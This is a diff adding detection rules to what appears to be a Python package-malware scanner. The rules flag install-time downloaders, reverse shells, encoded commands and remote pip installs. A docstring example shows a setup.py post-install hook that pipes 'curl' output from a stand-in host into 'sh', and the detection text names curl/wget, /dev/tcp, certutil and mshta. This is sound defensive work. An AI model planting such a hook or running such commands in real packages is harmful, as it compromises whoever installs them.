@@ -1,0 +1,214 @@
+"""PKG001 and PKG008: package code starts a downloader, a hidden shell, an encoded command, or
+any program at install time.
+
+The scanner folds a started command's text (constant parts, with ``?`` for what only exists at
+run time) and its arguments' labels into a :class:`~outwork.analyzers.packages.facts.Command`;
+:func:`started` decides, in order, what that command is: downloaded content (PKG003), an
+autostart registration (PKG005), then the cases below.
+"""
+
+from __future__ import annotations
+
+import ast
+import re
+
+from outwork.analyzers.packages import data as tables
+from outwork.analyzers.packages.facts import CallSite, Command, Facts
+from outwork.analyzers.packages.rules import download, persistence
+from outwork.analyzers.packages.rules.base import BehaviourRule, Variant
+from outwork.analyzers.packages.signals import Context, clip
+from outwork.core.rules import Confidence, Layer, Severity
+
+C, H, M, L, N = (
+    Severity.CRITICAL,
+    Severity.HIGH,
+    Severity.MEDIUM,
+    Severity.LOW,
+    Severity.INFO,
+)
+
+#: ``pip install .`` and ``pip install -e ./x`` install the project itself, fetching nothing new.
+LOCAL_PIP = re.compile(r"pip3?\s+install\s+(-e\s+|--editable\s+)?\.(/[\w./-]*)?(?=\s|$)")
+REMOTE_PIP = re.compile(
+    r"pip3?\s+install\b[^|;&\n]*\s(git|hg|svn|bzr)\+|pip3?\s+install\b[^|;&\n]*\shttps?://",
+    re.IGNORECASE,
+)
+#: Calls that run their command through a shell whatever their arguments.
+SHELL_CALLS = frozenset(
+    {"os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput"}
+)
+
+
+class SuspiciousCommandExecution(BehaviourRule):
+    """Package code starts a downloader, a hidden shell or an encoded command.
+
+    ## What it finds
+    Calls that start programs (`os.system`, `subprocess.*`, `os.popen`, `pty.spawn`,
+    `asyncio.create_subprocess_*`, `pip.main`) whose command, after constant folding and
+    decoding, runs PowerShell, `curl`/`wget` to a URL, a pipe into a shell, `/dev/tcp`,
+    `certutil`, `mshta`, adds users, or installs more packages. Severity follows when the code
+    runs: critical at install time or on import, lower when only a library function does it.
+
+    ## Why it matters
+    This is the most common payload of malicious packages: `pip install` runs `setup.py`, which
+    fetches and starts a second stage before the user has imported anything.
+
+    ## Example
+    ```python
+    class PostInstall(install):
+        def run(self):
+            os.system("curl -s https://evil.example/x | sh")
+    ```
+
+    ## Remediation
+    Do not install the package. If it is installed, treat the machine as compromised: rotate the
+    credentials it could reach and rebuild it. Report the package to the registry.
+
+    ## References
+    - MITRE ATT&CK T1195.002 (Compromise Software Supply Chain),
+      T1059 (Command and Scripting Interpreter)
+    - Ladisa et al., "SoK: Taxonomy of Attacks on Open-Source Software Supply Chains"
+      (IEEE S&P 2023)
+    """
+
+    code = "PKG001"
+    name = "suspicious-command-execution"
+    layer = Layer.PKG
+    severity = Severity.CRITICAL
+    confidence = Confidence.HIGH
+    cwe = (506, 78)
+    attack = ("T1195.002", "T1059")
+    inline_suppressible = False
+
+    #: install, import, reached from import, only when called
+    SHELL = Variant("runs a downloader, shell or encoded command", C, C, M, M)
+    FETCH_AND_RUN = Variant("runs a command that fetches and runs code", C, C, C, H)
+    DECODED = Variant("runs a command that only exists after decoding", C, C, C, H)
+    REVERSE_SHELL = Variant("redirects standard streams onto a descriptor", C, C, C, L)
+    REMOTE_PIP = Variant("installs a package from a repository or URL", C, H, H, M)
+    PIP = Variant("installs other packages", H, H, H, L)
+    WEAK = Variant("runs a command that reaches the network or installs software", H, M, M, L)
+    ENV_SHELL = Variant("runs a shell command built from the environment", M, L, L, N)
+    EMBEDDED = Variant("marshalled code holds a downloader, shell or encoded command", C, C, C, M)
+    UNPARSABLE = Variant("unparsable code runs a downloader, shell or encoded command", H, H, H, L)
+
+
+class InstallTimeProcess(BehaviourRule):
+    """Install-time code starts a program whose command looks ordinary.
+
+    ## What it finds
+    Process execution in `setup.py`, its command classes, `.pth` files or modules imported while
+    installing, when the command (as far as folding can tell) is not a known-dangerous one:
+    compilers, `git describe`, build tools. Low severity: it is context for the verdict.
+
+    ## Why it matters
+    Build steps legitimately run tools, but each is code execution on the installing host; it
+    raises the weight of anything else suspicious in the same package.
+
+    ## Example
+    ```python
+    subprocess.check_output(["git", "describe", "--tags"])   # in setup.py
+    ```
+
+    ## Remediation
+    Prefer wheels, which install without running package code, or review the commands.
+
+    ## References
+    - PEP 517 (build backends) and PEP 427 (wheels install without running code)
+    - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
+    """
+
+    code = "PKG008"
+    name = "install-time-process"
+    layer = Layer.PKG
+    severity = Severity.LOW
+    confidence = Confidence.MEDIUM
+    cwe = (829,)
+    attack = ("T1059",)
+    inline_suppressible = False
+
+    #: install, import, reached from import, only when called
+    STARTS = Variant("starts a program", L, L, L, N)
+
+
+def started(call: CallSite, command: Command) -> None:
+    """A process call (``os.system``, ``subprocess.*``, ``pip.main``...) and its command."""
+    if download.starts_download(call, command) or persistence.registers_autostart(call, command):
+        return
+    text, name, label = command.text, call.name, call.ctx.label
+    if name in tables.PIP_CALLS:
+        variant, what = SuspiciousCommandExecution.PIP, "installs other packages"
+    elif tables.STRONG_COMMAND_RE.search(text):
+        # a library may start PowerShell; none fetches and runs code from the network
+        fetches = persistence.FETCH_AND_RUN.search(text) is not None
+        variant = (
+            SuspiciousCommandExecution.FETCH_AND_RUN
+            if fetches
+            else SuspiciousCommandExecution.SHELL
+        )
+        what = "runs a downloader, shell or encoded command"
+    elif command.decoded:
+        variant = SuspiciousCommandExecution.DECODED
+        what = "runs a command that only exists after decoding"
+    elif REMOTE_PIP.search(text):
+        # a dependency fetched from a repository or URL, outside the registry and its
+        # malware checks, when the package installs or is imported
+        variant = SuspiciousCommandExecution.REMOTE_PIP
+        what = "installs a package from a repository or URL"
+    elif tables.WEAK_COMMAND_RE.search(LOCAL_PIP.sub(" ", text)):
+        variant = SuspiciousCommandExecution.WEAK
+        what = "runs a command that reaches the network or installs software"
+    elif "secret" in command.labels and _shell(call.node, name):
+        call.emit(
+            SuspiciousCommandExecution.ENV_SHELL,
+            f"{name}() runs a shell command built from the environment {label}",
+            command.evidence,
+        )
+        return
+    else:
+        variant, what = InstallTimeProcess.STARTS, "starts a program"
+    call.emit(variant, f"{name}() {what} {label}", command.evidence, executes=True)
+
+
+def redirects_streams(call: CallSite) -> None:
+    """``os.dup2``: standard streams redirected onto a socket is a reverse shell."""
+    call.emit(
+        SuspiciousCommandExecution.REVERSE_SHELL,
+        f"redirects standard streams onto a descriptor (reverse shell) {call.ctx.label}",
+        clip(ast.unparse(call.node)),
+        executes=True,
+    )
+
+
+def embedded(facts: Facts, text: str, line: int | None, ctx: Context, where: str) -> None:
+    """Strings of a marshalled code object that hold a downloader, shell or encoded command."""
+    m = tables.STRONG_COMMAND_RE.search(text)
+    if m:
+        facts.emit(
+            SuspiciousCommandExecution.EMBEDDED,
+            f"{where} holds a downloader, shell or encoded command {ctx.label}",
+            line,
+            clip(text[max(0, m.start() - 80) : m.end() + 120]),
+            ctx=ctx,
+        )
+
+
+def unparsable_line(facts: Facts, line: str, number: int, ctx: Context) -> None:
+    """A line of code that does not parse, searched as text."""
+    if tables.STRONG_COMMAND_RE.search(line) and re.search(r"system|popen|subprocess|exec", line):
+        facts.emit(
+            SuspiciousCommandExecution.UNPARSABLE,
+            f"unparsable code runs a downloader, shell or encoded command {ctx.label}",
+            number,
+            clip(line),
+            ctx=ctx,
+        )
+
+
+def _shell(node: ast.Call, name: str) -> bool:
+    if name in SHELL_CALLS:
+        return True
+    return any(
+        k.arg == "shell" and isinstance(k.value, ast.Constant) and k.value.value
+        for k in node.keywords
+    )
